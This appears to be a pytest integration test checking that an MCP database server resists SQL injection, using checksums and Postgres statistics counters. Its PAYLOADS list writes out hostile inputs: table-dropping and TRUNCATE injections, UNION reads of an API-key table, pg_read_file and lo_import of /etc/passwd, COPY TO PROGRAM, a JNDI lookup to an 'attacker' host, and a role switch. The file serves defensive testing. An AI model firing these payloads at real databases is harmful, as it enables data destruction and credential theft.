"""SQL-injection payloads in every string argument change nothing and read nothing outside `sales`.

Checked on the database itself: table checksums, and `pg_stat_user_tables` counters flushed by
ending the server's backends (a backend flushes its statistics when it exits).
"""

from __future__ import annotations

import asyncio

import pytest

from tests.integration.conftest import measured
from tests.support.mcp_client import mcp_client

pytestmark = pytest.mark.integration

PAYLOADS = [
    "customers; DROP TABLE sales.orders; --",
    "customers' OR '1'='1",
    'customers"; DELETE FROM sales.orders; --',
    "internal.api_keys",
    "api_keys",
    "../internal/api_keys",
    "pg_catalog.pg_authid",
    "pg_shadow",
    "information_schema.tables",
    "customers UNION SELECT * FROM internal.api_keys",
    "1; SELECT pg_sleep(5)",
    "' OR 1=1 --",
    "'; TRUNCATE sales.customers; --",
    "$$; DROP SCHEMA sales CASCADE; $$",
    "customers/*comment*/",
    "customers--",
    "CUSTOMERS",
    "customers\x00",
    "customers\n; DROP TABLE sales.orders",
    "%s%s%s%n",
    "${jndi:ldap://attacker/x}",
    "\\'; DROP TABLE sales.orders; --",
    "1 OR 1=1",
    "id) VALUES (1); DROP TABLE sales.orders; --",
    "(SELECT secret FROM internal.api_keys)",
    "customers WHERE 1=1",
    "customers; COPY sales.customers TO PROGRAM 'id'",
    "E'\\x27'",
    "\U0001d4ec\U0001d4fe\U0001d4fc\U0001d4fd\U0001d4f8\U0001d4f6\U0001d4ee\U0001d4fb\U0001d4fc",
    "\uff43\uff55\uff53\uff54\uff4f\uff4d\uff45\uff52\uff53",  # fullwidth "customers"
    "customers\t",
    "lo_import('/etc/passwd')",
    "id::text",
    "pg_read_file('/etc/passwd')",
    "current_setting('mcpfleet.mcp_db_reader_password')",
    "set_config('role', 'postgres', false)",
    "x" * 5000,
]

SECRET_MARKER = "do-not-leak"


def attacks(payload: str) -> list[tuple[str, dict]]:
    """Every string argument of every tool, one at a time."""
    return [
        ("describe_table", {"table": payload}),
        ("query", {"table": payload}),
        ("query", {"table": "customers", "columns": [payload]}),
        ("query", {"table": "customers", "filters": {payload: 1}}),
        ("query", {"table": "customers", "filters": {"email": payload}}),
        ("query", {"table": "customers", "filters": {"id": payload}}),
        ("query", {"table": "customers", "order_by": [{"column": payload}]}),
        ("insert", {"table": payload, "values": {"name": "x"}}),
        ("insert", {"table": "customers", "values": {payload: "x"}}),
        ("update", {"table": payload, "key": {"id": 1}, "values": {"name": "x"}}),
        ("update", {"table": "customers", "key": {payload: 1}, "values": {"name": "x"}}),
        ("update", {"table": "customers", "key": {"id": payload}, "values": {"name": "x"}}),
        ("update", {"table": "customers", "key": {"id": 1}, "values": {payload: "x"}}),
        ("update", {"table": "customers", "key": {"id": 999_999}, "values": {"name": payload}}),
    ]


STATS_SQL = """
SELECT schemaname || '.' || relname AS name, seq_scan, COALESCE(idx_scan, 0) AS idx_scan,
       n_tup_ins, n_tup_upd, n_tup_del
FROM pg_stat_user_tables WHERE schemaname IN ('sales', 'internal') ORDER BY 1
"""
TABLES = ["sales.customers", "sales.products", "sales.orders", "sales.order_items"]


async def flushed_stats(postgres) -> dict[str, tuple[int, ...]]:
    """End the server's backends (flushing their statistics), then read the counters."""
    conn = await postgres.connect()
    try:
        await conn.execute(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'mcpfleet-db'"
        )
        await asyncio.sleep(0.5)
        rows = await conn.fetch(STATS_SQL)
        return {
            r["name"]: tuple(r[k] for k in ("seq_scan", "idx_scan", "n_tup_ins", "n_tup_upd", "n_tup_del"))
            for r in rows
        }
    finally:
        await conn.close()


async def checksums(postgres) -> dict[str, str]:
    conn = await postgres.connect()
    try:
        return {
            t: await conn.fetchval(f"SELECT md5(COALESCE(string_agg(x::text, '|' ORDER BY x::text), '')) FROM {t} x")
            for t in TABLES
        }
    finally:
        await conn.close()


async def test_injection_payloads_change_and_leak_nothing(replicas, postgres, token):
    assert len(PAYLOADS) >= 30
    sums_before = await checksums(postgres)
    stats_before = await flushed_stats(postgres)
    url = replicas.replicas[0].base + "/mcp"
    calls = [call for payload in PAYLOADS for call in attacks(payload)]
    outcomes: dict[str, int] = {"refused": 0, "empty": 0}
    for start in range(0, len(calls), 50):  # a fresh principal per 50 calls keeps under the rate limit
        async with mcp_client(url, token()) as client:
            for name, arguments in calls[start : start + 50]:
                result = await client.call_tool(name, arguments)
                text = " ".join(getattr(c, "text", "") for c in result.content)
                assert SECRET_MARKER not in text
                if result.is_error:
                    outcomes["refused"] += 1
                else:  # only legitimate reads/updates that match nothing get through
                    content = result.structured_content
                    assert content.get("rows", []) == [] and content.get("updated", 0) == 0, (name, arguments)
                    outcomes["empty"] += 1
    stats_after = await flushed_stats(postgres)
    assert await checksums(postgres) == sums_before
    for table, (seq, idx, ins, upd, dele) in stats_after.items():
        b_seq, b_idx, b_ins, b_upd, b_del = stats_before[table]
        assert (ins, upd, dele) == (b_ins, b_upd, b_del), f"{table} rows changed"
        if table.startswith("internal."):
            assert (seq, idx) == (b_seq, b_idx), f"{table} was read"
    # Positive control: one real update through the server shows up in the same counters,
    # so "unchanged" above is a measurement, not a lag.
    async with mcp_client(url, token()) as client:
        result = await client.call_tool("update", {"table": "products", "key": {"id": 1}, "values": {"active": True}})
        assert result.structured_content["updated"] == 1
    control = await flushed_stats(postgres)
    assert control["sales.products"][3] == stats_after["sales.products"][3] + 1
    conn = await postgres.connect()
    try:
        assert await conn.fetchval("SELECT secret FROM internal.api_keys WHERE id = 1") == "do-not-leak-0xDEADBEEF"
        assert await conn.fetchval("SELECT count(*) FROM internal.api_keys") == 1
    finally:
        await conn.close()
    measured(
        f"injection: {len(PAYLOADS)} payloads x {len(attacks('x'))} argument positions = {len(calls)} calls; "
        f"{outcomes['refused']} refused, {outcomes['empty']} matched nothing; table checksums and "
        f"pg_stat ins/upd/del unchanged; internal.api_keys scans unchanged"
    )


async def test_payload_as_a_value_is_stored_verbatim(replicas, postgres, token):
    payload = "Robert'); DROP TABLE sales.customers; --"
    async with mcp_client(replicas.replicas[0].base + "/mcp", token()) as client:
        key = (
            await client.call_tool(
                "insert", {"table": "customers", "values": {"email": "bobby@tables.test", "name": payload}}
            )
        ).structured_content["key"]
    conn = await postgres.connect()
    try:
        assert await conn.fetchval("SELECT name FROM sales.customers WHERE id = $1", key["id"]) == payload
        assert await conn.fetchval("SELECT count(*) FROM sales.customers") >= 5
    finally:
        await conn.close()
